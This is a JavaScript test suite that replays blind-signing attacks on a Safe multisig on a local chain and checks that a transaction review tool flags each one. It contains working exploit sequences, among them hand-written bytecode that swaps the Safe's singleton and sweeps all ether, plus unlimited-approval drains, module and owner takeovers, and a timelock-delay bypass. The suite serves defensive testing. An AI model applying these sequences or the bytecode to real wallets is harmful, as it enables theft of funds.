// SPDX-License-Identifier: Apache-2.0
// Losses that passed through a signature, played to their end on the chain by owners who sign blind:
// the money is gone. And what src/evm's review says of the payload that they signed.
import { concat, getAddress, toBeHex } from 'ethers';

import { ZERO, abi, ether } from './chain.mjs';
import { check, same, test } from './tap.mjs';
import { calls, encode, makeSafe } from './treasury.mjs';

const UNLIMITED = (1n << 256n) - 1n;
// Init code that puts the runtime behind it on the chain.
const deployable = runtime => '0x' + '60' + (runtime.length / 2).toString(16).padStart(2, '0') + '600c60003960' + (runtime.length / 2).toString(16).padStart(2, '0') + '6000f3' + runtime;
// transfer(address to, uint256): storage[0] = to. In a delegatecall storage[0] is where the Safe keeps its singleton.
const SWAPS_SINGLETON = deployable('60043560005500');
// f(address to): sends all ether to it. As a singleton it needs no signature.
const SWEEPS = deployable('600060006000600047600435' + '5af100');

export async function playAttacks({ chain, probe, relay, contracts, treasury: t, attacker, delay }) {
  const place = async code => getAddress((await relay.must({ data: code })).receipt.contractAddress);
  const tokens = address => chain.call(abi.token, contracts.token, 'balanceOf', [address]);
  const safe = t.safe;
  // The owners sign it; the review must carry the risk; then `take` must leave the attacker richer.
  const played = (name, risks, what, take) => test(`attack: ${name}`, () => chain.whatIf(async () => {
    const before = [await chain.balance(attacker.address), await tokens(attacker.address)];
    const { proposal } = await safe.pay(await what(), t.quorum);
    same(proposal.review.risks, risks, 'what the review says against it');
    await take();
    const after = [await chain.balance(attacker.address), await tokens(attacker.address)];
    check(after[0] > before[0] + ether(1) || after[1] > before[1], 'the attacker is richer');
  }));

  const swaps = await place(SWAPS_SINGLETON), sweeps = await place(SWEEPS);
  await played('a "transfer" by delegatecall swaps the singleton, then all ether leaves without a signature (Bybit 2025)', ['delegatecall'],
    async () => ({ to: swaps, data: await encode(probe, calls.transfer, sweeps, 0n), operation: 1 }),
    async () => {
      same(getAddress('0x' + (await chain.rpc('eth_getStorageAt', safe.address, '0x0', 'latest')).slice(26)), sweeps, 'the singleton now');
      await relay.must({ to: safe.address, data: concat(['0xdeadbeef', toBeHex(attacker.address, 32)]) });
      same(await chain.balance(safe.address), 0n, 'what is left in the Safe');
    });

  await played('an unlimited approval, then the spender takes all tokens', ['unlimited', 'approval'],
    async () => ({ to: contracts.token, data: await encode(probe, 'approve(address,uint256)', attacker.address, UNLIMITED) }),
    async () => attacker.must({ to: contracts.token,
      data: await encode(probe, 'transferFrom(address,address,uint256)', safe.address, attacker.address, await tokens(safe.address)) }));

  await played('a module is enabled, then it pays itself past the owners', ['modules'],
    async () => ({ to: safe.address, data: await encode(probe, 'enableModule(address)', attacker.address) }),
    async () => {
      const sent = await attacker.must({ to: safe.address,
        data: await encode(probe, 'execTransactionFromModule(address,uint256,bytes,uint8)', attacker.address, ether(50), '0x', 0n) });
      same(sent.review.risks, ['from-module'], "the review of the module's own call");
    });

  const aloneTakes = async () => {
    const proposal = await safe.propose({ to: attacker.address, value: ether(50) });
    await relay.must(await safe.request(proposal, [attacker]));
  };
  await played('an owner is added and the threshold made 1, then he pays himself alone', ['owners'],
    async () => ({ to: safe.address, data: await encode(probe, 'addOwnerWithThreshold(address,uint256)', attacker.address, 1n) }), aloneTakes);
  await played('the threshold is made 1, then one owner pays alone (a key bought)', ['owners'],
    async () => ({ to: safe.address, data: await encode(probe, 'changeThreshold(uint256)', 1n) }), async () => {
      const proposal = await safe.propose({ to: attacker.address, value: ether(50) });
      await relay.must(await safe.request(proposal, t.quorum.slice(0, 1)));
    });

  await played('a fallback handler that is the token: anyone calls the Safe, which then calls as itself', ['guard'],
    async () => ({ to: safe.address, data: await encode(probe, 'setFallbackHandler(address)', contracts.token) }),
    async () => attacker.must({ to: safe.address, data: await encode(probe, calls.transfer, attacker.address, await tokens(safe.address)) }));

  // In ether the Safe caps the price of gas at the transaction's own; in a token nothing does.
  await played('a refund for gas, in tokens, to the attacker: the payment itself is harmless', ['refund'],
    async () => ({ to: relay.address, value: 1n, baseGas: (await tokens(safe.address)) - 500_000n, gasPrice: 1n, gasToken: contracts.token, refundReceiver: attacker.address }),
    async () => {});

  const inner = await makeSafe(chain, probe, relay, contracts, [safe.address], 1, 8n);
  await chain.give(inner.address, ether(30));
  const theft = await inner.propose({ to: attacker.address, value: ether(30) });
  await played('a hash is approved blind for a Safe that this one owns, then the payment behind it is made', ['blind'],
    async () => ({ to: inner.address, data: await encode(probe, 'approveHash(bytes32)', theft.digest) }),
    async () => attacker.must({ to: inner.address, data: await inner.calldata(theft, [concat([toBeHex(safe.address, 32), toBeHex(0, 32), '0x01'])]) }));

  await test('attack: the delay is made 0 through the timelock itself, then money leaves at once', () => chain.whatIf(async () => {
    const zero = await encode(probe, 'updateDelay(uint256)', 0n), salt = toBeHex(0xbad, 32), none = toBeHex(0, 32);
    const through = async (target, value, data, after) => {
      const scheduled = await safe.pay({ to: t.timelock, data: await encode(probe, calls.schedule, target, value, data, none, salt, after) }, t.quorum);
      if (after) await chain.later(after + 1n);
      await safe.pay({ to: t.timelock, data: await encode(probe, calls.execute, target, value, data, none, salt) }, t.quorum);
      return scheduled.proposal.review.risks;
    };
    same(await through(t.timelock, 0n, zero, delay), ['timelock'], 'already the schedule is flagged');
    const before = await chain.balance(attacker.address);
    await through(attacker.address, ether(20), '0x', 0n);
    same((await chain.balance(attacker.address)) - before, ether(20), 'taken at once');
  }));

  await test('attack: a proxy set up with a delegatecall of its own is flagged before it is made', async () => {
    const trap = await encode(probe, calls.setup, [t.quorum[0].address], 1n, swaps, await encode(probe, calls.transfer, sweeps, 0n), contracts.handler, ZERO, 0n, ZERO);
    const said = await probe({ do: 'safe_tx', chain: '31337', safe: safe.address, to: contracts.singleton, value: '0', data: trap, operation: '0', safeTxGas: '0',
      baseGas: '0', gasPrice: '0', gasToken: ZERO, refundReceiver: ZERO, nonce: '0' });
    same(said.risks, ['delegatecall', 'owners', 'guard'], 'what the review says against it');
    await chain.whatIf(async () => {
      await relay.must({ to: contracts.factory, data: abi.factory.encodeFunctionData('createProxyWithNonce', [contracts.singleton, trap, 99n]) });
    });
    const honest = await makeSafe(chain, probe, relay, contracts, [t.quorum[0].address], 1, 99n);
    same(getAddress('0x' + (await chain.rpc('eth_getStorageAt', honest.address, '0x0', 'latest')).slice(26)), contracts.singleton, 'the singleton of an honest one');
  });
}
